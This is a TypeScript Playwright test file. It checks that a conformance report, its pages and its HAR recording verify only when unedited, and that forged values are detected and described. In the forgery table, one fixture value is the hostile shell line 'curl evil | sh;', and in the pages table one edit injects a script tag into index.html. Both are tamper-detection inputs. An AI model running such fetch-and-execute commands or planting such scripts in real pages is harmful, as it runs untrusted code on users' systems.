/** Claims verify as the suite wrote them, and no edit of any of their files does. */
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { PAGE_NAMES, type PageName, RECORDING_FILE, REPORT } from '../../../fixtures/report/out/files.ts';
import { checkClaim, judgeRecording, readClaim } from '../../../fixtures/report/run/verify.ts';
import { readRecording } from '../../../fixtures/target/recording/read.ts';
import { folder as newFolder, test as base } from '../gate/spawn.ts';
import { properties } from '../../properties/index.ts';
import { edit } from '../report/schema.ts';
import { claim } from './corpus.ts';

type Judged = ReturnType<typeof makeClaim>;

function makeClaim(name: string, folder: string) {
  claim(name, folder);
  const recording = readRecording(join(folder, RECORDING_FILE));
  return { folder, read: readClaim(folder), recording, after: judgeRecording(recording, properties) };
}

const test = base.extend<object, { /** A claim that violates. */ heron: Judged }>({
  heron: [
    async ({}, use) => {
      const { directory, remove } = newFolder();
      await use(makeClaim('express-rate-limit', directory));
      remove();
    },
    { scope: 'worker' },
  ],
});
// One worker, which shares the claim.
test.describe.configure({ mode: 'default' });

for (const name of ['reference', 'defect-key-repeated', 'fastapi'])
  test(`the claim of ${name} verifies, whatever its formatting`, ({ directory: folder }) => {
    const { recording, after } = makeClaim(name, folder);
    for (const format of [(text: string) => text, (text: string) => JSON.stringify(JSON.parse(text))]) {
      writeFileSync(join(folder, REPORT), format(readFileSync(join(folder, REPORT), 'utf8')));
      const read = readClaim(folder);
      expect([...checkClaim(read, recording, after), ...read.notices]).toEqual([]);
    }
  });

/** Each value of a report by its path, the first of each kind of place: `/requirements/0/id`. */
function listPlaces(value: unknown, path = '', kind = '', found = new Map<string, string>()): Map<string, string> {
  const isNested = typeof value === 'object' && value !== null;
  if (!isNested && !found.has(kind)) found.set(kind, path);
  for (const [name, member] of Object.entries(isNested ? value : {}))
    listPlaces(member, `${path}/${name}`, `${kind}/${Array.isArray(value) ? '' : name}`, found);
  return found;
}

const another = (value: unknown): unknown =>
  typeof value === 'string' ? `${value}x` : typeof value === 'number' ? value + 1 : value !== true;

test('no other value of a report verifies, but for what is in no recording', ({ heron }) => {
  const { read, recording, after } = heron;
  const places = [...listPlaces(read.report).values()];
  expect(places.length).toBeGreaterThan(60);
  const unseen = places.filter((path) => {
    const report = edit(read.report, path, another);
    return !checkClaim({ ...read, report }, recording, after).some((each) => each.includes(' in the report, '));
  });
  expect(unseen).toEqual(['/run/node']);
});

const FORGERIES: [path: string, value: unknown, message: string][] = [
  ['/verdict', 'conforms', 'verdict: "conforms" in the report, "violates" by the recording'],
  ['/counts/failed', 0, 'counts/failed: 0 in the report, 2 by the recording'],
  ['/problems', [], 'problem 1: nothing in the report, {"title":'],
  ['/problems/1/title', 'all is well', 'problem 2/title: "all is well" in the report'],
  ['/durationMs', 1, 'durationMs: 1 in the report'],
  ['/certified', true, 'certified: true in the report, nothing by the recording'],
  ['/suite/version', '9.9.9', 'suite/version: "9.9.9" in the report, '],
  ['/contract/digest', `sha256:${'0'.repeat(64)}`, 'contract/digest: "sha256:0000'],
  ['/run/command', 'curl evil | sh;', 'run/command: "curl evil | sh;"'],
];

test('the message shows what is claimed, what follows from the recording, and why', ({ heron }) => {
  const { read, recording, after } = heron;
  for (const [path, value, message] of FORGERIES) {
    const report = edit(read.report, path, () => value);
    const [found] = checkClaim({ ...read, report }, recording, after);
    expect(found?.slice(0, message.length)).toBe(message);
    if (path === '/suite/version') expect(found).toMatch(/\(suite 9\.9\.9 judged it, and this is /);
    if (path === '/contract/digest') expect(found).toContain('(judged by another contract');
  }
});

const PAGES: [PageName, from: string | RegExp, to: string][] = [
  ['index.html', 'Violates', 'Conforms'],
  ['index.html', '</body>', '<script src="x"></script></body>'],
  ['badge.json', /"message": "[^"]*"/, '"message": "conforms to 1.0.0"'],
  ['summary.md', '❌', '✅'],
  ['junit.xml', /$/, ' '],
];

test('no other page verifies, nor a recording with more in it', ({ heron }) => {
  const { read, recording, folder, after } = heron;
  for (const [name, from, to] of PAGES) {
    const text = read.pages.get(name) as string;
    expect(text).toMatch(from);
    const pages = new Map(read.pages).set(name, text.replace(from, to));
    const wrong = checkClaim({ ...read, pages }, recording, after);
    expect(wrong).toEqual([expect.stringMatching(new RegExp(`^${name} was changed, or differs \\(.*\\)$`))]);
  }
  const text = readFileSync(join(folder, RECORDING_FILE), 'utf8').replace('"statusText":""', '"statusText":"OK"');
  const more = readRecording(RECORDING_FILE, text);
  const report = edit(read.report, '/recording/digest', () => more.digest);
  const wrong = checkClaim({ ...read, report }, more, after);
  expect(wrong).toContainEqual(expect.stringMatching(/^exchanges\.har has more or other content/));
  const foreign = { ...recording, run: { ...recording.run, isForeign: true } };
  expect(judgeRecording(foreign, properties).problems).toEqual(after.problems);
});

test('other and missing files are named, and line ends that git changed make no difference', ({ heron, directory }) => {
  const folder = join(directory, 'checkout');
  cpSync(heron.folder, folder, { recursive: true });
  for (const name of [REPORT, RECORDING_FILE, ...PAGE_NAMES])
    writeFileSync(join(folder, name), readFileSync(join(folder, name), 'utf8').replaceAll('\n', '\r\n'));
  writeFileSync(join(folder, 'certificate.html'), 'conforms');
  rmSync(join(folder, 'junit.xml'));
  const read = readClaim(folder);
  expect(checkClaim(read, readRecording(join(folder, RECORDING_FILE)), heron.after)).toEqual([]);
  expect(read.notices).toEqual([
    'not in the folder: junit.xml',
    'not part of the claim, and not verified: certificate.html',
  ]);
});
